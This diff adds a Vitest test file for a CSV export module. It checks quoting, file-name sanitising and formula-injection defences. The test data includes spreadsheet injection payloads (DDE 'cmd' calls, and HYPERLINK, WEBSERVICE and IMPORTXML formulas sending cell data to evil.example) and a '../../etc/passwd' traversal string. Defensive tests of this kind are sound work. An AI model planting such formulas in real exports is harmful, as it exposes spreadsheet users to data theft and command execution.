@@ -1,0 +1,165 @@
+import { afterEach, describe, expect, it, vi } from 'vitest';
+import papaparse from 'papaparse';
+import { downloadCsv, fileName, toCsv, type CsvValue } from './csv.ts';
+
+const oneColumn = [{ header: 'value', value: (row: { value: CsvValue }) => row.value }];
+
+async function writtenCells(values: CsvValue[]): Promise<string[]> {
+  const text = await toCsv(
+    oneColumn,
+    values.map((value) => ({ value })),
+  );
+  const { data, errors } = papaparse.parse<string[]>(text.slice(1), { newline: '\r\n' });
+  expect(errors.filter(({ type }) => type !== 'Delimiter')).toEqual([]);
+  return data.slice(1).map(([cell]) => cell ?? '');
+}
+
+/** What a person does who wants the source text back: takes away the one apostrophe before a formula. */
+const withoutApostrophe = (cell: string) =>
+  /^'+\s*['\s\0\u200B\uFEFF]*[=+\-@＝＋－＠]|^'[\t\r\n]/.test(cell) ? cell.slice(1) : cell;
+
+const FORMULAS = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  '=HYPERLINK("http://evil.example?x="&A1,"click")',
+  '=WEBSERVICE("http://evil.example")',
+  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+  "-2+3+cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '   @SUM(A1)',
+  '\u00A0=1+1',
+  '\u3000=1+1',
+  '\uFEFF=1+1',
+  '\u200B=1+1',
+  '\u2028=1+1',
+  '\0=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(A1)',
+  ' ＝1+1',
+  '=1+1\nsecond line',
+  '=1+1\r\nsecond line',
+  '="a"',
+  '=A1,B1',
+  '=A1;B1',
+  '+49 170 1234567 (mobile)',
+  '-',
+  '--',
+  '+',
+  '@',
+  '=',
+  "'=1+1",
+  "''=1+1",
+  "' =1+1",
+  '-1e5',
+  '+1-1',
+  '-5%',
+  '- 5',
+];
+
+describe('toCsv', () => {
+  it('starts with a byte order mark and ends lines with CRLF', async () => {
+    const columns = [
+      { header: 'Name', value: (row: { name: string; age: number }) => row.name },
+      { header: 'Age', value: (row: { name: string; age: number }) => row.age },
+    ];
+    expect(await toCsv(columns, [{ name: 'Ann', age: 31 }])).toBe('\uFEFFName,Age\r\nAnn,31');
+  });
+
+  it('writes the header alone where there are no rows', async () => {
+    expect(await toCsv(oneColumn, [])).toBe('\uFEFFvalue');
+  });
+
+  it('quotes commas, quotes and line breaks and doubles a quote', async () => {
+    expect(await toCsv(oneColumn, [{ value: 'a,"b"\nc' }])).toBe('\uFEFFvalue\r\n"a,""b""\nc"');
+  });
+
+  it('tells an empty text from null', async () => {
+    expect(await toCsv(oneColumn, [{ value: '' }, { value: null }, { value: 'x' }])).toBe(
+      '\uFEFFvalue\r\n""\r\n\r\nx',
+    );
+  });
+
+  it('keeps numbers numbers, the negative ones too, as numbers and as text', async () => {
+    expect(await writtenCells([-5, 1.5, 0, '-5', '+4915112345', '-12.50', true])).toEqual([
+      '-5',
+      '1.5',
+      '0',
+      '-5',
+      '+4915112345',
+      '-12.50',
+      'true',
+    ]);
+  });
+
+  it.each(FORMULAS)('neutralises %j', async (formula) => {
+    expect(await writtenCells([formula])).toEqual([`'${formula}`]);
+  });
+
+  it('gives the source back exactly when read again', async () => {
+    const source = [
+      ...FORMULAS,
+      'plain',
+      "it's",
+      "'quoted'",
+      'a=b',
+      'line 1\nline 2',
+      '"',
+      '", "',
+      '😀',
+      ' edge ',
+      '1,5',
+      '-7',
+    ];
+    expect((await writtenCells(source)).map(withoutApostrophe)).toEqual(source);
+  });
+
+  it('neutralises a header that comes from data', async () => {
+    expect(await toCsv([{ header: '=1+1', value: () => 'x' }], [{}])).toBe('\uFEFF"\'=1+1"\r\nx');
+  });
+});
+
+describe('fileName', () => {
+  it.each([
+    ['Botdeck leads, page 3 of 500 (50 leads)', 'botdeck-leads-page-3-of-500-50-leads'],
+    ['../../etc/passwd', 'etc-passwd'],
+    ['Größe: "é"', 'große-e'],
+    ['東京 leads', '東京-leads'],
+    ['CON\u0000<>|', 'con'],
+  ])('writes %j as %s', (text, name) => {
+    expect(fileName(text)).toBe(name);
+  });
+
+  it('stays short', () => {
+    expect(fileName('tag '.repeat(100)).length).toBeLessThanOrEqual(150);
+  });
+});
+
+describe('downloadCsv', () => {
+  afterEach(() => vi.restoreAllMocks());
+
+  it('hands a named file to the browser', async () => {
+    const blobs: Blob[] = [];
+    URL.createObjectURL = (blob) => {
+      blobs.push(blob as Blob);
+      return 'blob:test';
+    };
+    const names: string[] = [];
+    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function click(
+      this: HTMLAnchorElement,
+    ) {
+      names.push(`${this.download} ${this.href}`);
+    });
+    await downloadCsv('Leads: page 1', oneColumn, [{ value: 'ä' }]);
+    expect(names).toEqual(['leads-page-1.csv blob:test']);
+    expect(blobs[0]?.type).toBe('text/csv;charset=utf-8');
+    expect(await blobs[0]?.text()).toContain('value\r\nä');
+  });
+});
